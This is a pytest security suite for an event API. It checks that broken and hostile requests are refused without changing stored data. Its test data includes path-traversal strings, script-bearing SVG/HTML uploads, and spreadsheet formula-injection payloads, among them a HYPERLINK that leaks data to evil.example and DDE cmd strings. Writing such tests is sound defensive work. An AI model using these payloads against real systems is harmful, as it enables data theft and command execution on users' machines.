"""Hostile and broken input: each gets its documented 4xx and changes nothing.

Every case sends one bad request to a scene (an administrator, a user, a full event with a
picture) and checks the status the HTTP contract gives it, that the answer
is a problem document, and that the database is exactly as before: every row of every
table compared. The cases run on SQLite; those whose trouble is in what the store
accepts (NUL characters, huge numbers, extreme dates) run on PostgreSQL too.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import attrs
import pytest

from tests.security._stack import (
    PASSWORD,
    Account,
    Stack,
    open_sqlite_stack,
    postgres_snapshot,
    sqlite_snapshot,
)
from tests.support.pg import migrated_database
from tests.support.services import require_postgres

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(24)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(24)
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L" + bytes(20)
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
MiB = 1024 * 1024
START = "2030-02-01T10:00:00+00:00"
END = "2030-02-01T12:00:00+00:00"


@attrs.define
class Scene:
    """The objects of one case and a snapshot function of its database."""

    stack: Stack
    admin: Account
    user: Account
    ids: dict[str, str]
    snapshot: Callable[[], Awaitable[Any]]


async def build_scene(stack: Stack, snapshot: Callable[[], Awaitable[Any]]) -> Scene:
    admin, user = await stack.admin(), await stack.register()
    event = await stack.create_event(admin, max_participants_count=2, location="Hall")
    other = await stack.create_event(admin)
    client = stack.client
    for member in (user, admin):  # the event is full
        joined = await client.put(f"/v1/events/{event['id']}/participation", headers=member.headers)
        assert joined.status_code == 200
    image = await client.put(
        f"/v1/events/{event['id']}/image",
        content=PNG,
        headers={**admin.headers, "Content-Type": "image/png"},
    )
    assert image.status_code == 200
    await stack.deliver()
    ids = {"event": event["id"], "other": other["id"], "user": user.id}
    return Scene(stack, admin, user, ids, snapshot)


@pytest.fixture(params=["sqlite", "postgres"])
async def scene(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Scene]:
    """A scene on SQLite, or on PostgreSQL for the cases that ask for it."""
    case: Case = request.node.callspec.params["case"]
    if request.param == "postgres" and not case.postgres:
        pytest.skip("the store plays no part in this case")
    if request.param == "sqlite":
        path = tmp_path / "afisha.db"

        async def sqlite_state() -> Any:
            return sqlite_snapshot(path)

        async with open_sqlite_stack(path) as stack:
            yield await build_scene(stack, sqlite_state)
        return
    url = require_postgres()
    async with migrated_database() as db:
        schema = db.schema
        assert schema is not None

        async def postgres_state() -> Any:
            return await postgres_snapshot(url, schema)

        stack = Stack(uow=db)
        async with stack.serve():
            yield await build_scene(stack, postgres_state)


# --- the cases ---------------------------------------------------------------------


@attrs.frozen
class Case:
    """One bad request: who sends what where, and the answer the HTTP contract gives it."""

    name: str
    method: str
    path: str
    status: int
    code: str | None = None
    json: Any = None
    content: bytes | None = None
    content_type: str | None = None
    headers: dict[str, str] = attrs.field(factory=dict)
    params: dict[str, str] | None = None
    who: str = "admin"
    field: str | None = None
    postgres: bool = False

    def __str__(self) -> str:
        return self.name


def event(**fields: Any) -> dict[str, Any]:
    """A valid event body with ``fields`` replaced."""
    return {"name": "Bad input", "starts_at": START, "ends_at": END, **fields}


def raw(text: str | bytes) -> bytes:
    return text.encode() if isinstance(text, str) else text


def nested(depth: int, open_: str = "[", close: str = "]") -> bytes:
    return (open_ * depth + close * depth).encode()


EVENTS, EVENT = "/v1/events", "/v1/events/{event}"
IMAGE, JOIN = "/v1/events/{event}/image", "/v1/events/{event}/participation"
V, B = "validation_error", "bad_request"

CASES = [
    # --- syntax -------------------------------------------------------------------------
    Case("malformed json", "POST", EVENTS, 400, B, content=raw('{"name": ')),
    Case("trailing garbage", "POST", EVENTS, 400, B, content=raw('{"name": "x"} x')),
    Case("top-level array", "POST", EVENTS, 400, B, content=raw("[1, 2]")),
    Case("top-level string", "PATCH", EVENT, 400, B, content=raw('"name"')),
    Case("empty body", "POST", EVENTS, 400, B, content=b""),
    Case("whitespace body", "PATCH", EVENT, 400, B, content=b" \n\t "),
    Case("100k nested arrays", "POST", EVENTS, 400, B, content=nested(100_000)),
    Case("100k nested objects", "PATCH", EVENT, 400, B,
         content=b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    Case("nested value in a field", "POST", EVENTS, 400, B,
         content=b'{"name":' + nested(50_000) + b"}"),
    Case("invalid utf-8", "POST", EVENTS, 400, B, content=b'{"name": "caf\xe9 \xff\xfe"}'),
    Case("overlong utf-8", "POST", EVENTS, 400, B, content=b'{"name": "\xc0\xaf"}'),
    Case("lone surrogate", "PATCH", EVENT, 400, B, content=raw('{"name": "a\\ud800b"}')),
    Case("lone surrogate in a login", "POST", "/v1/sessions", 400, B, who="anonymous",
         content=raw('{"login": "\\udfff", "password": "x"}')),
    Case("NaN capacity", "POST", EVENTS, 422, V, content=raw(
        json.dumps(event())[:-1] + ', "max_participants_count": NaN}')),
    Case("not json at all", "POST", EVENTS, 415, "unsupported_media_type",
         content=raw("name=x"), content_type="application/x-www-form-urlencoded"),
    Case("json as text/plain", "PATCH", EVENT, 415, "unsupported_media_type",
         content=raw('{"name": "x"}'), content_type="text/plain"),
    # --- types ---------------------------------------------------------------------------
    Case("number for a name", "POST", EVENTS, 422, V, json=event(name=123), field="name"),
    Case("epoch for a datetime", "POST", EVENTS, 422, V, json=event(starts_at=1_900_000_000),
         field="starts_at"),
    Case("string capacity", "POST", EVENTS, 422, V, json=event(max_participants_count="10"),
         field="max_participants_count"),
    Case("boolean capacity", "PATCH", EVENT, 422, V, json={"max_participants_count": True},
         field="max_participants_count"),
    Case("fractional capacity", "PATCH", EVENT, 422, V, json={"max_participants_count": 1.5},
         field="max_participants_count"),
    Case("list for a name", "PATCH", EVENT, 422, V, json={"name": ["x"]}, field="name"),
    Case("object for a name", "PATCH", EVENT, 422, V, json={"name": {"x": 1}}, field="name"),
    Case("null name", "PATCH", EVENT, 422, V, json={"name": None}, field="name"),
    Case("unknown field", "PATCH", EVENT, 422, V, json={"owner": "me"}, field="owner"),
    Case("missing field", "POST", EVENTS, 422, V, json={"name": "x", "starts_at": START},
         field="ends_at"),
    Case("string waitlist", "PUT", JOIN, 422, V, json={"waitlist": "yes"}, who="user",
         field="waitlist"),
    Case("unknown role", "PATCH", "/v1/users/{user}", 422, V, json={"role": "ROOT"},
         field="role"),
    Case("number for a password", "POST", "/v1/sessions", 422, V, who="anonymous",
         json={"login": "x", "password": 12345678}, field="password"),
    # --- sizes ---------------------------------------------------------------------------
    Case("name over 200 characters", "PATCH", EVENT, 422, V, json={"name": "n" * 201},
         field="name"),
    Case("name of almost a mebibyte", "POST", EVENTS, 422, V,
         json=event(name="n" * (MiB - 200)), field="name"),
    Case("description over 20000", "PATCH", EVENT, 422, V, json={"description": "d" * 20_001},
         field="description"),
    Case("full name over 200", "PATCH", "/v1/users/me", 422, V, json={"full_name": "f" * 201},
         who="user", field="full_name"),
    Case("password of a mebibyte", "POST", "/v1/sessions", 413, "payload_too_large",
         who="anonymous", json={"login": "x", "password": "p" * MiB}),
    Case("json over a mebibyte", "PATCH", EVENT, 413, "payload_too_large",
         json={"description": "d" * MiB}),
    Case("huge declared length", "PATCH", EVENT, 413, "payload_too_large",
         content=raw('{"name": "x"}'), headers={"Content-Length": str(10 * 1024**3)}),
    Case("image over ten mebibytes", "PUT", IMAGE, 413, "payload_too_large",
         content=PNG + bytes(10 * MiB), content_type="image/png"),
    Case("long search text", "GET", EVENTS, 422, V, params={"q": "q" * 201}, who="anonymous"),
    Case("limit over 100", "GET", EVENTS, 422, V, params={"limit": "101"}, who="anonymous"),
    Case("negative limit", "GET", EVENTS, 422, V, params={"limit": "-1"}, who="anonymous"),
    Case("huge limit", "GET", EVENTS, 422, V, params={"limit": "9" * 400}, who="anonymous"),
    Case("garbage cursor", "GET", EVENTS, 422, V, params={"cursor": "!!"}, who="anonymous"),
    Case("huge cursor", "GET", "/v1/notifications", 422, V, params={"cursor": "A" * 10_000},
         who="user"),
    Case("cursor with a nested payload", "GET", EVENTS, 422, V, who="anonymous",
         params={"cursor": "W1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tbW1tb"}),
    # --- datetimes -------------------------------------------------------------------------
    Case("naive start", "POST", EVENTS, 422, V, json=event(starts_at="2030-02-01T10:00:00"),
         field="starts_at"),
    Case("naive end in a patch", "PATCH", EVENT, 422, V,
         json={"ends_at": "2030-02-04T10:00:00"}, field="ends_at"),
    Case("date without a time", "POST", EVENTS, 422, V, json=event(starts_at="2030-02-01"),
         field="starts_at"),
    Case("thirtieth of february", "POST", EVENTS, 422, V,
         json=event(starts_at="2030-02-30T10:00:00+00:00"), field="starts_at"),
    Case("offset past the year 1", "POST", EVENTS, 422, V, postgres=True,
         json=event(starts_at="0001-01-01T00:00:00+01:00"), field="starts_at"),
    Case("naive query bound", "GET", EVENTS, 422, V, who="anonymous",
         params={"from": "2030-02-01T10:00:00"}),
    Case("ends when it starts", "POST", EVENTS, 422, V, json=event(ends_at=START),
         field="ends_at"),
    Case("ends before it starts", "POST", EVENTS, 422, V,
         json=event(ends_at="2030-02-01T09:00:00+00:00"), field="ends_at"),
    Case("same instant in another zone", "POST", EVENTS, 422, V,
         json=event(ends_at="2030-02-01T13:00:00+03:00"), field="ends_at"),
    Case("patched end before the start", "PATCH", EVENT, 422, V,
         json={"ends_at": "2000-01-01T00:00:00+00:00"}, field="ends_at"),
    Case("patched start after the end", "PATCH", EVENT, 422, V,
         json={"starts_at": "2099-01-01T00:00:00+00:00"}, field="ends_at"),
    # --- time zones ------------------------------------------------------------------------
    Case("unknown time zone", "POST", EVENTS, 422, V, json=event(timezone="Mars/Olympus_Mons"),
         field="timezone"),
    Case("path as a time zone", "PATCH", EVENT, 422, V, json={"timezone": "../../etc/passwd"},
         field="timezone"),
    Case("absolute path as a time zone", "PATCH", EVENT, 422, V,
         json={"timezone": "/etc/localtime"}, field="timezone"),
    Case("empty time zone", "PATCH", EVENT, 422, V, json={"timezone": ""}, field="timezone"),
    Case("time zone with a NUL", "PATCH", EVENT, 422, V, json={"timezone": "UTC\x00"},
         field="timezone", postgres=True),
    # --- capacity --------------------------------------------------------------------------
    Case("zero capacity", "POST", EVENTS, 422, V, json=event(max_participants_count=0),
         field="max_participants_count"),
    Case("negative capacity", "PATCH", EVENT, 422, V, json={"max_participants_count": -1},
         field="max_participants_count"),
    Case("most negative capacity", "POST", EVENTS, 422, V, postgres=True,
         json=event(max_participants_count=-(2**63)), field="max_participants_count"),
    Case("capacity past 64 bits", "POST", EVENTS, 422, V, postgres=True,
         json=event(max_participants_count=2**64), field="max_participants_count"),
    Case("capacity of a googol", "PATCH", EVENT, 422, V, postgres=True,
         json={"max_participants_count": 10**100}, field="max_participants_count"),
    Case("capacity below the participants", "PATCH", EVENT, 409, "capacity_too_low",
         json={"max_participants_count": 1, "name": "Renamed"}, postgres=True),
    # --- pictures --------------------------------------------------------------------------
    Case("png bytes as jpeg", "PUT", IMAGE, 415, "unsupported_media_type", content=PNG,
         content_type="image/jpeg"),
    Case("jpeg bytes as webp", "PUT", IMAGE, 415, "unsupported_media_type", content=JPEG,
         content_type="image/webp"),
    Case("webp bytes as png", "PUT", IMAGE, 415, "unsupported_media_type", content=WEBP,
         content_type="image/png"),
    Case("gif as png", "PUT", IMAGE, 415, "unsupported_media_type", content=GIF,
         content_type="image/png"),
    Case("svg with a script as png", "PUT", IMAGE, 415, "unsupported_media_type", content=SVG,
         content_type="image/png"),
    Case("html as webp", "PUT", IMAGE, 415, "unsupported_media_type",
         content=b"<html><script>x()</script></html>", content_type="image/webp"),
    Case("empty picture", "PUT", IMAGE, 415, "unsupported_media_type", content=b"",
         content_type="image/png"),
    Case("gif declared as gif", "PUT", IMAGE, 415, "unsupported_media_type", content=GIF,
         content_type="image/gif"),
    Case("svg declared as svg", "PUT", IMAGE, 415, "unsupported_media_type", content=SVG,
         content_type="image/svg+xml"),
    Case("no content type", "PUT", IMAGE, 415, "unsupported_media_type", content=PNG),
    # --- control characters --------------------------------------------------------------
    Case("newline in a name", "PATCH", EVENT, 422, V, json={"name": "a\nb"}, field="name"),
    Case("NUL in a description", "PATCH", EVENT, 422, V, json={"description": "a\x00b"},
         field="description", postgres=True),
    Case("NUL in a location", "POST", EVENTS, 422, V, json=event(location="\x00"),
         field="location", postgres=True),
    Case("NUL in a full name", "PATCH", "/v1/users/me", 422, V, json={"full_name": "a\x00"},
         who="user", field="full_name", postgres=True),
    Case("NUL in a username", "PATCH", "/v1/users/me", 422, V, json={"username": "ab\x00c"},
         who="user", field="username", postgres=True),
    Case("NUL in a recovery email", "POST", "/v1/password-recovery", 422, V,
         json={"email": "a\x00@example.org"}, who="anonymous", postgres=True),
    Case("NUL in a search", "GET", EVENTS, 422, V, params={"q": "a\x00"}, who="anonymous",
         postgres=True),
    Case("NUL in a token", "GET", "/v1/users/me", 401, "not_authenticated", who="anonymous",
         headers={"Authorization": "Bearer a\x00b"}, postgres=True),
]  # fmt: skip

CASES += [
    Case("NUL in a cancellation reason", "POST", "/v1/events/{event}/reject", 422, V,
         json={"reason": "gone\x00"}, field="reason", postgres=True),
    Case("NUL in a login", "POST", "/v1/sessions", 401, "invalid_credentials",
         json={"login": "ab\x00c", "password": PASSWORD}, who="anonymous", postgres=True),
]  # fmt: skip


def _params(case: Case, backend: str) -> Any:
    return pytest.param(case, backend, id=f"{case.name}-{backend}")


@pytest.mark.parametrize(
    ("case", "scene"),
    [_params(c, b) for c in CASES for b in ("sqlite", "postgres") if b == "sqlite" or c.postgres],
    indirect=["scene"],
)
async def test_bad_input_is_refused_as_documented_and_changes_nothing(
    case: Case, scene: Scene
) -> None:
    who = {"admin": scene.admin.headers, "user": scene.user.headers, "anonymous": {}}[case.who]
    headers = {**who, **case.headers}
    if case.content_type is not None:
        headers["Content-Type"] = case.content_type
    elif case.content is not None:
        headers.setdefault("Content-Type", "application/json")
    before = await scene.snapshot()
    mailed = len(scene.stack.sent)

    response = await scene.stack.client.request(
        case.method,
        case.path.format(**scene.ids),
        headers=headers,
        json=case.json,
        content=case.content,
        params=case.params,
    )

    assert response.status_code == case.status, response.text[:500]
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert body["status"] == case.status
    if case.code is not None:
        assert body["code"] == case.code, body
    if case.field is not None:
        assert case.field in {e["field"] for e in body["errors"]}, body
    after = await scene.snapshot()
    audited = len(after.pop("audit_log", [])) - len(before.pop("audit_log", []))
    assert after == before
    # A failed login is written to the audit log (and nothing else changes).
    assert audited == (1 if case.code == "invalid_credentials" else 0)
    assert await scene.stack.deliver() == []
    assert len(scene.stack.sent) == mailed
    picture = await scene.stack.client.get(f"/v1/events/{scene.ids['event']}")
    assert picture.status_code == 200
    assert picture.json()["image_url"] is not None


async def test_a_user_agent_holding_a_nul_is_refused_or_cleaned(stack: Stack) -> None:
    user = await stack.register()

    response = await stack.client.post(
        "/v1/sessions",
        json={"login": user.username, "password": PASSWORD},
        headers={"User-Agent": "agent\x00"},
    )

    assert response.status_code in (201, 400), response.text
    sessions = await stack.client.get("/v1/sessions", headers=user.headers)
    assert all("\x00" not in s["user_agent"] for s in sessions.json()["items"])


# --- input that is fine to store but dangerous to render ------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


async def test_the_participant_export_neutralises_spreadsheet_formulas(stack: Stack) -> None:
    admin = await stack.admin()
    event = await stack.create_event(admin)
    for formula in FORMULAS:
        user = await stack.register()
        renamed = await stack.client.patch(
            "/v1/users/me", json={"full_name": formula}, headers=user.headers
        )
        assert renamed.status_code == 200, renamed.text
        joined = await stack.client.put(
            f"/v1/events/{event['id']}/participation", headers=user.headers
        )
        assert joined.status_code == 200

    export = await stack.client.get(
        f"/v1/events/{event['id']}/participants",
        headers={**admin.headers, "Accept": "text/csv"},
    )

    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(FORMULAS) + 1
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
